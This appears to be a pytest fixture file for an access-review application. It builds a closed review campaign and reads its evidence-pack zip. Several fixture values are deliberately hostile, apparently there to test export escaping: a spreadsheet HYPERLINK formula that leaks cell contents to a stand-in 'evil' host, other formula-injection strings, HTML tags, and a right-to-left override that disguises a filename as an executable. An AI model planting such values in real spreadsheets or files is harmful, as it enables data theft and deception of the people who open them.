"""One review with every kind of answer, ended; and its pack as a reader finds it."""

import csv
import io
import json
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from django.utils import timezone

from governance.kernel.actors import Role
from governance.kernel.permissions import Permission
from governance.people.models import User
from identities.models import Grant, SyncMode, SyncOrigin, SyncRun, SyncState
from reviews import packs, remediation
from reviews.campaigns.closing import close_due_campaigns
from reviews.decisions import decide, recall
from reviews.models import Campaign, EvidencePack, Order, ReviewItem

HOUR = timedelta(hours=1)
FORMULA = '=HYPERLINK("http://evil/?"&A1,"open")'
TURNING = "pay\u202egnp.exe\nsecond <b>line</b> \x07"


@dataclass
class Story:
    """The review and the people around it."""

    make: SimpleNamespace
    campaign: Campaign
    manager: User
    reviewer: User
    owner: User
    grants: dict[str, Grant]

    def item(self, name: str) -> ReviewItem:
        return self.make.get_item(self.campaign, self.grants[name])

    def order(self, name: str) -> Order:
        return Order.objects.get(item=self.item(name))

    def answer(self, name: str, answer: str, **more: Any) -> Any:
        item = self.item(name)
        more = {"reason": f"{answer} of {name}."} | more
        by = self.make.actor(item.assignee)
        return decide(item=item, version=item.version, answer=answer, actor=by, now=self.make.NOW + HOUR, **more)

    def read(self, *gone: str) -> SyncRun:
        """A later reading of the source, in which these accesses are gone; it speaks about orders."""
        now = timezone.now()
        source = self.grants["kept"].source
        run = SyncRun.objects.create(
            source=source, mode=SyncMode.SNAPSHOT, origin=SyncOrigin.API, is_complete=True, state=SyncState.APPLIED,
            actor_id="sync", started_at=now, observed_at=now, finished_at=now, records=7,
        )  # fmt: skip
        Grant.objects.filter(pk__in=[self.grants[name].pk for name in gone]).update(retired_at=now, last_changed_at=now)
        remediation.verify_orders(source_id=str(source.pk), run_id=str(run.pk), now=now)
        return run

    def pack(self) -> EvidencePack:
        """A pack as the worker leaves it."""
        by = self.make.actor(self.manager)
        asked = packs.request_pack(campaign=self.campaign, actor=by, now=timezone.now())
        packs.build_pack(pack_id=asked.pk, now=timezone.now())
        asked.refresh_from_db()
        return asked


class Read:
    """A pack, opened."""

    def __init__(self, path: Path) -> None:
        self.zip = zipfile.ZipFile(path)
        self.names = self.zip.namelist()

    def text(self, name: str) -> str:
        return self.zip.read(name).decode()

    def json(self, name: str) -> Any:
        return json.loads(self.text(name))

    def lines(self, name: str) -> list[Any]:
        return [json.loads(line) for line in self.text(name).splitlines()]

    def rows(self, name: str) -> list[dict[str, str]]:
        return list(csv.DictReader(io.StringIO(self.text(name), newline="")))


@pytest.fixture
def folders(settings: Any, tmp_path: Path) -> Iterator[None]:
    """Packs and checkpoints of this test alone."""
    settings.AUDIT_CHECKPOINT_DIR = tmp_path / "checkpoints"
    settings.EVIDENCE_DIR = tmp_path / "evidence"
    return


@pytest.fixture
def make_story(make: SimpleNamespace) -> Callable[[], Story]:
    """Opens and answers; nothing has ended yet."""

    def go() -> Story:
        manager, reviewer, owner = (
            make.person(role, name=name)
            for role, name in (
                (Role.CAMPAIGN_MANAGER, "Mia Manager"),
                (Role.REVIEWER, "Rob O'Reviewer"),
                (Role.OWNER, '+Olga "Owner"'),
            )
        )
        source = make.source(name="Ledger", not_observable=["last use of a role"])
        watched = make.source(name="Watched")
        make.window(watched)
        run = SyncRun.objects.create(
            source=source, mode=SyncMode.SNAPSHOT, origin=SyncOrigin.API, is_complete=True, state=SyncState.APPLIED,
            actor_id="sync", started_at=make.NOW - HOUR, observed_at=make.NOW - HOUR, finished_at=make.NOW, records=12,
            refused=1, counts={"grant": {"added": 3, "changed": 1, "retired": 0, "unchanged": 7}},
        )  # fmt: skip
        assert run.pk

        def grant(permission: Any = None, of: Any = source, **fields: Any) -> Grant:
            identity = {"owner": owner} | ({"name": fields.pop("name")} if "name" in fields else {})
            return make.grant(make.identity(of, **identity), permission, **fields)

        grants = {
            "kept": grant(),
            "dated": grant(),
            "narrowed": grant(),
            "revoked": grant(name=FORMULA, label="@SUM(1+1)"),
            "rested": grant(),
            "recalled": grant(),
            "silent": grant(name=TURNING),
            "passed_on": grant(),
            "privileged": grant(make.PRIVILEGED),
            "unused": grant(of=watched),
        }
        campaign = make.campaign(
            name="Quarterly <review> of\n=ledger",
            manager=manager,
            fallback_reviewer=reviewer,
            independent_reviewer=reviewer,
        )
        return Story(make, campaign, manager, reviewer, owner, grants)

    return go


@pytest.fixture
def story(folders: None, committed_db: Any, make_story: Callable[[], Story]) -> Story:
    """The review, closed: approved, dated, narrowed, revoked, taken back, passed on, attested, and silent."""
    told = make_story()
    make = told.make
    told.answer("kept", "approve")
    told.answer("dated", "approve_until", until=make.NOW + timedelta(days=300))
    told.answer("narrowed", "scope_down", target=Permission.from_json(make.NARROWER))
    told.answer("revoked", "revoke", reason='=1+1 "not" needed,\r\nsays Olga')
    told.answer("rested", "revoke")
    first = told.answer("recalled", "revoke")
    recall(decision=first, actor=make.actor(told.owner), now=make.NOW + HOUR)
    told.answer("recalled", "approve")
    told.answer("passed_on", "dont_know")
    told.answer("privileged", "approve")
    told.answer("privileged", "approve", reason="Independent.")
    told.answer("unused", "approve")
    close_due_campaigns(now=told.campaign.deadline_at + HOUR)
    told.campaign.refresh_from_db()
    return told


@pytest.fixture
def opened() -> Callable[[EvidencePack | Path], Read]:
    """`opened(pack)`: the finished file, read."""

    def go(pack: EvidencePack | Path) -> Read:
        from reviews.packs.places import file_of

        return Read(file_of(pack) if isinstance(pack, EvidencePack) else pack)

    return go
